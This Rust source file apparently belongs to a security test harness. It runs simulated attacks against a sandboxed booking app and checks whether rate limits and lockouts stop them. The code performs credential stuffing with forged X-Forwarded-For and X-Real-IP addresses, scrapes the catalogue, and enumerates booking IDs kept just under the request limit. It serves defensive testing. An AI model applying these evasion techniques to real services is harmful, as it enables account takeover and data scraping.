//! Somebody with a list of leaked passwords and some patience: tries them all, then copies what he finds.

use std::time::{Duration, Instant};

use serde_json::json;
use tokio::task::JoinSet;

use crate::{Answer, Failure, Ground, Loot, Plan, Raid, Town, Visitor};

/// Pairs of name and password that leaked somewhere else.
const LEAKED: u64 = 120;
/// How many of those people have the same password here.
const REUSED: usize = 3;
const SEARCHES: usize = 150;
/// The gateway lets ten of them pass a minute (L7).
const SEARCHES_OF_PEOPLE: usize = 10;
/// In one minute, so that the general limit lets all of them pass (L6).
const IDS: usize = 95;
/// More different things in a few minutes than a person looks at.
const IDS_OF_PEOPLE: usize = 80;

type Pair = (String, String);

pub async fn attack(ground: Ground) -> Raid {
    let leaked: Vec<Pair> = (0..LEAKED).map(|_| pair(&ground)).collect();
    let mut plan = Plan::default().built_in_limits().built_in_jail();
    for (pseudo, password) in reused(&ground, &leaked) {
        plan = plan.account(pseudo, password);
    }
    let town = ground.town(plan).await?;
    let opened = stuff(&ground, &town, &leaked).await?;
    let copied = scrape(&ground, &town).await?;
    let walked = walk(&ground, &town).await?;
    let (fr, en) = (
        format!(
            "{opened} comptes ouverts avec {LEAKED} mots de passe volés, {copied} recherches copiées, {walked} identifiants essayés"
        ),
        format!(
            "{opened} accounts opened with {LEAKED} stolen passwords, {copied} searches copied, {walked} ids tried"
        ),
    );
    if opened == 0 && copied <= SEARCHES_OF_PEOPLE && walked <= IDS_OF_PEOPLE {
        return Loot::nothing(
            format!("{fr} : arrêté à chaque fois."),
            format!("{en}: stopped each time."),
        );
    }
    Loot::taken(format!("{fr}."), format!("{en}."))
}

fn pair(ground: &Ground) -> Pair {
    let first = ground.dice().one_of(&[
        "lea", "noe", "ines", "hugo", "jade", "adam", "lina", "sacha",
    ]);
    let word = ground.dice().one_of(&[
        "soleil",
        "marseille",
        "chocolat",
        "mistral",
        "lavande",
        "vacances",
    ]);
    let number = ground.dice().within(1..1_000_000);
    let password = format!("{word}-{first}-{}", ground.dice().within(1_940..2_026));
    (format!("{first}{number}"), password)
}

/// Not among the first: the few tries that any limit leaves would find them by luck.
fn reused<'a>(ground: &Ground, leaked: &'a [Pair]) -> impl Iterator<Item = &'a Pair> {
    let part = (leaked.len() - 40) / REUSED;
    let at = ground.dice().within(0..20);
    let at = usize::try_from(at).unwrap_or_default();
    leaked[40..].iter().skip(at).step_by(part).take(REUSED)
}

/// One password for each name: no account is locked, since none is tried twice.
async fn stuff(ground: &Ground, town: &Town, leaked: &[Pair]) -> Result<usize, Failure> {
    ground.say(
        format!("J'essaie {LEAKED} couples pseudo/mot de passe volés ailleurs, chacun sous une autre adresse inventée…"),
        format!("Trying {LEAKED} pairs of name and password stolen elsewhere, each under another made-up address…"),
    );
    let (visitor, begun) = (town.visitor()?, Instant::now());
    let (mut waiting, mut opened, mut looked_at) = (JoinSet::new(), 0, 0);
    let mut count = |answer: &Answer| {
        opened += usize::from(answer.status == 200);
        looked_at += usize::from([200, 401].contains(&answer.status.as_u16()));
    };
    for (pseudo, password) in leaked {
        if waiting.len() == 8
            && let Some(Ok(answer)) = waiting.join_next().await
        {
            count(&answer?);
        }
        let forger = under_another_address(ground, &visitor);
        let pair = json!({"pseudo": pseudo, "password": password});
        waiting.spawn(async move { forger.post("/auth/login", &pair).await });
    }
    while let Some(Ok(answer)) = waiting.join_next().await {
        count(&answer?);
    }
    let seconds = begun.elapsed().as_secs_f64();
    ground.say(
        format!(
            "{looked_at} mots de passe examinés en {} s, {opened} comptes ouverts.",
            format!("{seconds:.1}").replace('.', ",")
        ),
        format!("{looked_at} passwords looked at in {seconds:.1} s, {opened} accounts opened."),
    );
    Ok(opened)
}

fn under_another_address(ground: &Ground, visitor: &Visitor) -> Visitor {
    let part = || ground.dice().within(1..250);
    let made_up = format!("203.{}.{}.{}", part(), part(), part());
    let visitor = visitor.with_header("x-forwarded-for", &made_up);
    visitor.with_header("x-real-ip", &made_up)
}

/// Every two letters that a title may hold: what a competitor asks to have the whole catalogue, each day anew.
async fn scrape(ground: &Ground, town: &Town) -> Result<usize, Failure> {
    ground.say(
        format!(
            "Avec un compte gratuit, je recopie le catalogue : {SEARCHES} recherches à la suite…"
        ),
        format!("With an account for free, copying the catalogue: {SEARCHES} searches in a row…"),
    );
    let thief = a_minute_later(town, "bob").await?;
    let mut copied = 0;
    for number in 0..SEARCHES {
        let letter = |place: usize| char::from(b'a' + u8::try_from(place % 26).unwrap_or(0));
        let word = format!("{}{}", letter(number / 26), letter(number));
        let answer = thief.get(&format!("/api/tours/search?q={word}")).await?;
        copied += usize::from(answer.status == 200);
    }
    ground.say(
        format!("{copied} recherches sur {SEARCHES} ont reçu leur réponse."),
        format!("{copied} searches of {SEARCHES} were answered."),
    );
    Ok(copied)
}

/// What the limits refused before is no hindrance then.
async fn a_minute_later(town: &Town, pseudo: &str) -> Result<Visitor, Failure> {
    town.pass(Duration::from_secs(60)).await?;
    town.account(pseudo).await
}

/// Below the limit of requests. Only who remembers what was looked at sees it.
async fn walk(ground: &Ground, town: &Town) -> Result<usize, Failure> {
    ground.say(
        format!("Plus discret : {IDS} identifiants de réservation au hasard, sous la limite de cent requêtes par minute…"),
        format!("More quietly: {IDS} ids of bookings by chance, below the limit of a hundred requests a minute…"),
    );
    let thief = a_minute_later(town, "alice").await?;
    let mut walked = 0;
    for _ in 0..IDS {
        let word = ground.dice().word();
        let id = format!("{}-0000-4000-8000-0000{}", &word[..8], &word[8..]);
        let answer = thief.get(&format!("/api/bookings/{id}")).await?;
        walked += usize::from(answer.status != 429);
    }
    ground.say(
        format!("{walked} identifiants sur {IDS} examinés."),
        format!("{walked} ids of {IDS} looked at."),
    );
    Ok(walked)
}
